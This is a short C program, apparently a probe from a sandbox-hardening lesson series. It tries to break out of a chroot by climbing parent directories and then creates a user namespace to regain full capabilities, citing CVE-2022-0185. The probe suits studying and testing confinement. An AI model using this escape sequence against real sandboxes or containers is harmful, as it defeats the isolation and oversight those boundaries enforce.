/* nest-users: make a user namespace inside, and so get every capability again
 * in it: with them much more of the kernel can be reached. Usage: nest-users
 * FIFO.  Closed by lesson 09.  See user_namespaces(7) and CVE-2022-0185,
 * which began like this. */
#include "attack.h"
#include <sched.h>

/* The kernel makes none for whoever stands in a chroot, so first climb out of
 * it: escape-chroot in 03-mount says how.  Where that fails, it isn't needed.
 */
static void
leave_chroot(void)
{
    if (chdir("/") == -1 || chroot("/tmp") == -1)
        return;
    for (int level = 0; level < 64; level++)
        if (chdir("..") == -1)
            return;
    if (chroot(".") == -1)
        perror("chroot");
}

int
main(int argc, char **argv)
{
    if (argc != 2)
        return NOT_TRIED;
    int root = open("/", O_PATH | O_CLOEXEC);
    if (root == -1)
        return NOT_TRIED;
    leave_chroot();
    if (unshare(CLONE_NEWUSER) == -1) {
        perror("unshare CLONE_NEWUSER");
        return REFUSED;
    }
    /* Back to where the FIFO is. */
    if (fchdir(root) == -1 || chroot(".") == -1)
        return NOT_TRIED;
    return wait_for_look(argv[1]);
}
